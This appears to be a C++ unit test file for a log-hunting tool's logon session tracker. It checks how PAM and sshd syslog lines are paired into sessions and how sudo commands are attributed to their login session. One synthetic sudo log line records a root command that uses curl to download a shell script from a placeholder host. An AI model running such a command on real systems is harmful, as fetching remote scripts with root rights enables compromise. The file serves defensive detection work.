// LogonSessionTracker fed by the syslog parser: sessions paired from the PAM
// open/close lines of the Loghub samples, the sshd source address attached,
// and "which session ran this sudo command" on written lines.
#include <gtest/gtest.h>

#include "core/time.h"
#include "detectors/context/logon_sessions.h"
#include "tests/parsers/syslog_test_util.h"

namespace loghunt {
namespace {

using testing::ReadLines;

class FeedingHandler : public EventHandler {
 public:
  explicit FeedingHandler(LogonSessionTracker* t) : t_(t) {}
  void OnEvent(const Event& e) override { t_->Observe(e); }
  void OnError(ParseError, std::string_view, const SourcePosition&) override { ++errors; }
  int errors = 0;

 private:
  LogonSessionTracker* t_;
};

int64_t At(int y, unsigned mo, unsigned d, int h, int mi, int s) {
  return (DaysFromCivil(y, mo, d) * 86400 + h * 3600 + mi * 60 + s) * kNanosPerSecond;
}

// Counts the raw lines that open / close a PAM session.
void CountSessionLines(const std::vector<std::string>& lines, size_t* opens, size_t* closes) {
  *opens = *closes = 0;
  for (const auto& l : lines) {
    *opens += l.find("session opened for user") != std::string::npos;
    *closes += l.find("session closed for user") != std::string::npos;
  }
}

TEST(LogonSessions, LinuxSamplePairsEveryOpenWithItsClose) {
  auto lines = ReadLines("syslog/loghub/Linux/Linux_2k.log");
  size_t opens, closes;
  CountSessionLines(lines, &opens, &closes);
  ASSERT_GT(opens, 0u);
  SyslogParser parser(testing::FixedYear(2005));
  // The sample spans months: keep closed sessions for a year so all stay queryable.
  LogonSessionTracker tracker(
      LogonSessionOptions{.closed_retention_ns = int64_t{366} * 86400 * kNanosPerSecond});
  FeedingHandler h(&tracker);
  for (const auto& l : lines) parser.Parse(l, {"linux", -1, 0}, h);
  EXPECT_EQ(h.errors, 0);
  EXPECT_EQ(tracker.size(), opens);
  EXPECT_EQ(tracker.open_count(), opens - closes);  // every close found its open
  // Linux_2k.log:14-15: su(pam_unix)[21416] session for cyrus, 04:06:18 .. 04:06:19.
  const LogonSession* s = tracker.SessionAt("combo", "cyrus", At(2005, 6, 15, 4, 6, 18));
  ASSERT_NE(s, nullptr);
  EXPECT_EQ(s->service, "su");
  EXPECT_EQ(s->pid, 21416);
  EXPECT_EQ(s->end_ns, At(2005, 6, 15, 4, 6, 19));
  EXPECT_EQ(tracker.SessionAt("combo", "cyrus", At(2005, 6, 15, 4, 6, 17)), nullptr);
}

TEST(LogonSessions, OpenSshSessionCarriesTheAcceptedSourceAddress) {
  // OpenSSH_2k.log:956 Accepted password for fztu from 119.137.62.142 (sshd[24680]),
  // :957 session opened for user fztu, :965 session closed (09:45:06).
  auto lines = ReadLines("syslog/loghub/OpenSSH/OpenSSH_2k.log");
  SyslogParser parser(testing::FixedYear(2005));
  LogonSessionTracker tracker;
  FeedingHandler h(&tracker);
  for (const auto& l : lines) parser.Parse(l, {"openssh", -1, 0}, h);
  const LogonSession* s = tracker.SessionAt("LabSZ", "fztu", At(2005, 12, 10, 9, 40, 0));
  ASSERT_NE(s, nullptr);
  EXPECT_EQ(s->source_ip, "119.137.62.142");
  EXPECT_EQ(s->service, "sshd");
  EXPECT_EQ(s->start_ns, At(2005, 12, 10, 9, 32, 20));
  EXPECT_EQ(s->end_ns, At(2005, 12, 10, 9, 45, 6));
  EXPECT_FALSE(s->id.empty());
}

TEST(LogonSessions, SudoCommandIsAttributedToTheLoginSessionNotTheSudoSession) {
  SyslogParser parser(testing::FixedYear(2024));
  LogonSessionTracker tracker;
  FeedingHandler h(&tracker);
  const char* lines[] = {
      "Mar  1 10:00:00 web sshd[700]: Accepted publickey for alice from 203.0.113.9 port 5000 ssh2",
      "Mar  1 10:00:00 web sshd[700]: pam_unix(sshd:session): session opened for user alice by "
      "(uid=0)",
      "Mar  1 10:05:00 web sudo: pam_unix(sudo:session): session opened for user root by "
      "alice(uid=1000)",
  };
  for (const char* l : lines) parser.Parse(l, {"t", -1, 0}, h);
  struct Keep : EventHandler {
    void OnEvent(const Event& e) override { event = e; }
    void OnError(ParseError, std::string_view, const SourcePosition&) override {}
    Event event;
  } keep;
  std::string sudo =
      "Mar  1 10:05:00 web sudo[801]: alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
      "COMMAND=/usr/bin/curl http://x/i.sh";
  parser.Parse(sudo, {"t", -1, 0}, keep);
  ASSERT_EQ(keep.event.kind, EventKind::kUserCommand);
  const LogonSession* s = tracker.SessionFor(keep.event);
  ASSERT_NE(s, nullptr);
  EXPECT_EQ(s->user, "alice");
  EXPECT_EQ(s->service, "sshd");
  EXPECT_EQ(s->source_ip, "203.0.113.9");
  // The nested sudo session belongs to root, opened by alice.
  const LogonSession* root = tracker.SessionAt("web", "root", At(2024, 3, 1, 10, 5, 0));
  ASSERT_NE(root, nullptr);
  EXPECT_EQ(root->by_user, "alice");
  EXPECT_EQ(root->service, "sudo");
}

TEST(LogonSessions, ClosedSessionsAreForgottenAfterTheRetention) {
  // Default retention (24 h of stream time): the Linux sample spans months, so
  // only the sessions closed in its last day remain.
  auto lines = ReadLines("syslog/loghub/Linux/Linux_2k.log");
  size_t opens, closes;
  CountSessionLines(lines, &opens, &closes);
  SyslogParser parser(testing::FixedYear(2005));
  LogonSessionTracker tracker;
  FeedingHandler h(&tracker);
  for (const auto& l : lines) parser.Parse(l, {"linux", -1, 0}, h);
  EXPECT_LT(tracker.size(), opens);
  EXPECT_EQ(tracker.SessionAt("combo", "cyrus", At(2005, 6, 15, 4, 6, 18)), nullptr);
}

TEST(LogonSessions, ExtremeTimestampsDoNotOverflow) {
  // Found by the fuzzer: stream times near both ends of int64 made the age
  // arithmetic overflow (UBSan).
  LogonSessionTracker tracker;
  Event e;
  e.stream = Stream::kSyslog;
  e.kind = EventKind::kLogon;
  e.logon.result = LogonResult::kSuccess;
  e.host = "h";
  e.logon.user = "u";
  e.extras.push_back({"event.action", "session_opened"});
  e.timestamp_ns = INT64_MIN + 5;
  tracker.Observe(e);
  e.timestamp_ns = INT64_MAX - 5;
  tracker.Observe(e);  // sweeps: the first session is far older than max_open_ns
  EXPECT_EQ(tracker.size(), 1u);
  e.kind = EventKind::kLogoff;
  e.extras[0].value = "session_closed";
  tracker.Observe(e);
  EXPECT_EQ(tracker.open_count(), 0u);
}

TEST(LogonSessions, MemoryStaysBoundedWhenClosesNeverCome) {
  LogonSessionTracker tracker(LogonSessionOptions{.max_sessions = 100});
  SyslogParser parser(testing::FixedYear(2024));
  FeedingHandler h(&tracker);
  for (int i = 0; i < 5000; ++i) {
    std::string l = "Mar  1 10:00:00 h sshd[" + std::to_string(i) +
                    "]: pam_unix(sshd:session): session opened for user u" + std::to_string(i % 7) +
                    " by (uid=0)";
    parser.Parse(l, {"t", -1, i}, h);
  }
  EXPECT_LE(tracker.size(), 101u);
}

}  // namespace
}  // namespace loghunt
